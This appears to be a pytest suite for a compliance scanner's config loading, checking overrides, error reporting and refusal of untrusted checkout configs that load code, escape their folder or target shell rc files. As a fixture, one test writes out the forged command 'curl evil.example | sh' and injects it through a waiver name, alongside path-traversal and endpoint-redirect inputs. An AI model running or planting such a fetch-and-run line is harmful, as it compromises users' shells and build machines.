"""Config file: .hipaacheck.yaml / --config become scan defaults; the command line overrides; bad keys exit 2."""
from __future__ import annotations

from pathlib import Path

import pytest

from hipaacheck.cli import build_parser
from hipaacheck.cli.config import apply_config, subparser
from hipaacheck.errors import InputError
from assertions import input_error
from posture_fixtures import make_env, scan_args


def parse(tmp_path: Path, text: str, *argv: str, name: str = ".hipaacheck.yaml"):
    (tmp_path / name).write_text(text)
    parser = build_parser()
    if name != ".hipaacheck.yaml":
        argv = ("--config", str(tmp_path / name), *argv)
    apply_config(parser, ["scan", *argv], cwd=tmp_path)
    return parser.parse_args(["scan", *argv])


def test_file_values_become_defaults_and_cli_wins(tmp_path):
    text = ("fail-on: high\nfail_on_new_only: true\nformat: [json, table]\nmax-workers: 3\n"
            "output-dir: out\nwaivers: /etc/hipaacheck/waivers.yaml\nchecks-dir: [extra]\n")
    args = parse(tmp_path, text, name="ci.yaml")
    assert (args.fail_on, args.fail_on_new_only, args.format, args.max_workers) == ("high", True, "json,table", 3)
    assert args.output_dir == tmp_path.resolve() / "out"  # relative to the config file
    assert args.waivers == Path("/etc/hipaacheck/waivers.yaml")
    assert args.checks_dir == [tmp_path.resolve() / "extra"]
    args = parse(tmp_path, text, "--fail-on", "low", "--format", "table", "--max-workers", "9", name="ci.yaml")
    assert (args.fail_on, args.format, args.max_workers) == ("low", "table", 9)
    assert args.fail_on_new_only is True  # not given on the command line: the file's value stays


def test_no_config_file_means_builtin_defaults(tmp_path):
    parser = build_parser()
    assert apply_config(parser, ["scan"], cwd=tmp_path) is None
    assert parser.parse_args(["scan"]).fail_on == "low"


def test_explicit_config_flag_beats_working_folder_file(tmp_path):
    (tmp_path / ".hipaacheck.yaml").write_text("fail-on: high\n")
    other = tmp_path / "ci.yaml"
    other.write_text("fail-on: critical\n")
    parser = build_parser()
    assert apply_config(parser, ["scan", "--config", str(other)], cwd=tmp_path) == other
    assert parser.parse_args(["scan", "--config", str(other)]).fail_on == "critical"


@pytest.mark.parametrize("text, line, problem", [
    ("fail-on: high\nfial-on: low\n", 2, "unknown option 'fial-on'"),
    ("quiet: yes please\n", 1, "quiet: expected true or false"),
    ("fail-on: severe\n", 1, "'severe' is not one of critical"),
    ("max-workers: many\n", 1, "max-workers: invalid value 'many'"),
    ("max-workers: 0\n", 1, "max-workers: must be at least 1, got '0'"),
    ("output: bad\n", 1, "output: expected FORMAT=PATH, got 'bad'"),  # was a traceback
    ("help: true\n", 1, "unknown option 'help'"),
    ("format: {json: 1}\n", 1, "expected a single value"),
])
def test_bad_config_names_file_and_line(tmp_path, text, line, problem):
    with pytest.raises(InputError) as exc:
        parse(tmp_path, text)
    assert exc.value.where == f"{tmp_path / '.hipaacheck.yaml'}:{line}"
    assert problem in exc.value.problem


def test_cli_uses_config_and_reports_bad_key(tmp_path, cli, monkeypatch):
    env = make_env(tmp_path)
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".hipaacheck.yaml").write_text("format: json\nfail-on: critical\n")
    result = cli(*scan_args(env))
    assert result.json()["summary"]["by_status"]["fail"] == 2
    assert result.code == 0  # nothing critical fails
    assert cli(*scan_args(env, "--fail-on", "medium")).code == 1
    (tmp_path / ".hipaacheck.yaml").write_text("format: json\nsoft-fial: true\n")
    bad = cli(*scan_args(env))
    assert input_error(bad) == f"hipaacheck: error: {tmp_path / '.hipaacheck.yaml'}:2: unknown option 'soft-fial' " \
                               "(keys are scan's long options, e.g. fail-on)"
    input_error(cli(*scan_args(env, "--config", tmp_path / "missing.yaml")), "missing.yaml")


def test_config_only_applies_to_scan(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".hipaacheck.yaml").write_text("not-an-option: 1\n")
    parser = build_parser()
    assert apply_config(parser, ["profiles"], cwd=tmp_path) is None
    assert subparser(parser, "scan") is not None


def test_found_config_may_not_load_python_but_a_named_one_may(tmp_path):
    """A checkout under test (a pull request) must not make the scanner import its code."""
    with pytest.raises(InputError) as exc:
        parse(tmp_path, "fail-on: high\nchecks-dir: [evil]\n")
    assert exc.value.where == f"{tmp_path / '.hipaacheck.yaml'}:2"
    assert "loads Python code" in exc.value.problem and "--config" in exc.value.problem
    args = parse(tmp_path, "checks-dir: [mine]\n", name="trusted.yaml")
    assert args.checks_dir == [tmp_path.resolve() / "mine"]


# ---- a checkout's own .hipaacheck.yaml, written by an attacker ----------------------------------------------

@pytest.mark.parametrize("text, problem", [
    ("log-file: ~/.bashrc\n", "log-file appends to a file anywhere"),
    ("endpoint-url: http://127.0.0.1:9/\n", "endpoint-url decides which server answers for AWS"),
    ("output-dir: ../out\n", "output-dir: '{folder}/../out' is outside this file's folder"),
    ("waivers: ~/waivers.yaml\n", "waivers: '{home}/waivers.yaml' is outside this file's folder"),
    ("evidence-bundle: /tmp/bundle.zip\n", "evidence-bundle: '/tmp/bundle.zip' is outside"),
    ("history: sub/../../history.db\n", "history: '{folder}/sub/../../history.db' is outside"),
    ("controls-dir: [ok, /etc]\n", "controls-dir: '/etc' is outside"),
    ("profile: ../profile.yaml\n", "profile: '{folder}/../profile.yaml' is outside"),
    ("baseline: linked/results.json\n", "baseline: '{folder}/linked/results.json' is outside"),
])
def test_found_config_names_nothing_outside_its_folder(tmp_path, text, problem):
    folder = tmp_path / "checkout"
    folder.mkdir()
    (folder / "linked").symlink_to(tmp_path)  # a link in the checkout counts where it leads
    with pytest.raises(InputError) as exc:
        parse(folder, "fail-on: high\n" + text)
    assert exc.value.where == f"{folder / '.hipaacheck.yaml'}:2"
    assert problem.format(parent=tmp_path.resolve(), home=Path.home(), folder=folder.resolve()) in exc.value.problem
    named = parse(folder, text, name="operator.yaml")  # the operator's own file may
    assert named.fail_on == "low"


def test_found_config_paths_inside_its_folder_are_kept(tmp_path):
    args = parse(tmp_path, "output-dir: out\nwaivers: sub/../w.yaml\nprofile: p.yaml\n")
    assert args.output_dir == tmp_path.resolve() / "out" and args.profile == "p.yaml"


def test_found_config_that_links_out_of_the_folder_is_refused(tmp_path):
    (tmp_path / "elsewhere.yaml").write_text("fail-on: critical\n")
    folder = tmp_path / "checkout"
    folder.mkdir()
    (folder / ".hipaacheck.yaml").symlink_to(tmp_path / "elsewhere.yaml")
    with pytest.raises(InputError, match="must be a file of that folder, not a link out of it"):
        apply_config(build_parser(), ["scan"], cwd=folder)
    (folder / ".hipaacheck.yaml").unlink()  # a Kubernetes ConfigMap volume: links into a folder of the mount
    (folder / "..data").mkdir()
    (folder / "..data" / ".hipaacheck.yaml").write_text("fail-on: critical\nwaivers: w.yaml\n")
    (folder / ".hipaacheck.yaml").symlink_to(folder / "..data" / ".hipaacheck.yaml")
    (folder / "w.yaml").symlink_to(folder / "..data" / "w.yaml")
    parser = build_parser()
    apply_config(parser, ["scan"], cwd=folder)
    assert parser.parse_args(["scan"]).fail_on == "critical"


def test_checkout_cannot_append_lines_to_a_file_outside_it(tmp_path, cli, monkeypatch):
    """The attack in full: a pull request's config aims --log-file at a shell rc file and forges a line in it."""
    env = make_env(tmp_path)
    rc = tmp_path / "home" / ".bashrc"
    rc.parent.mkdir()
    rc.write_text("# mine\n")
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    monkeypatch.chdir(checkout)
    forged = "host.x\ncurl evil.example | sh\n"
    (checkout / "waivers.yaml").write_text(
        "version: 1\nwaivers:\n  - control: " + repr(forged).replace("'", '"') +
        "\n    justification: accepted for the test run\n    approver: a\n    expires: 2026-12-31\n")
    (checkout / ".hipaacheck.yaml").write_text(f"log-file: {rc}\nwaivers: waivers.yaml\n")
    refused = cli(*scan_args(env, "--format", "json"))
    input_error(refused, "log-file appends to a file anywhere")
    assert rc.read_text() == "# mine\n"
    (checkout / ".hipaacheck.yaml").write_text("waivers: waivers.yaml\n")
    log = tmp_path / "operator.log"  # the operator's own log, named on the command line
    result = cli(*scan_args(env, "--format", "json", "--log-file", log, "--log-level", "info"))
    assert result.code in (0, 1), result.err
    stale = [line for line in log.read_text().splitlines() if "stale waiver" in line]
    assert stale and all("\\ncurl evil.example | sh\\n" in line for line in stale)
    assert not any(line.startswith("curl") for line in log.read_text().splitlines() + result.err.splitlines())
